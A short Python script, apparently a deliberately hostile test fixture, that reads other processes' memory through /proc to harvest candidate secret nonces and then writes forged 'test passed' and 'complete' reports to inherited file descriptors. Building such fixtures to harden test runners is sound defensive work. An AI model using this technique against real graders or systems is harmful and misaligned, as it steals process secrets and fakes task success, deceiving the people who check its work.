# Scans its own memory and other processes' memory for a nonce, and forges a report with each candidate.
# ruff: noqa (deliberately hostile code)
import os
import re

candidates = set()
for pid in ["self", "1", str(os.getppid())]:
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                if "rw" not in line.split()[1] or end - start > 1 << 26:
                    continue
                try:
                    mem.seek(start)
                    candidates.update(re.findall(rb"[0-9a-f]{32}", mem.read(end - start)))
                except OSError:
                    pass
    except OSError:
        pass
for nonce in list(candidates)[:2000]:
    for fd in (3, 4, 5):
        try:
            os.write(fd, nonce + b" test 0 passed -\n" + nonce + b" complete 0 - -\n")
        except OSError:
            pass
os._exit(0)
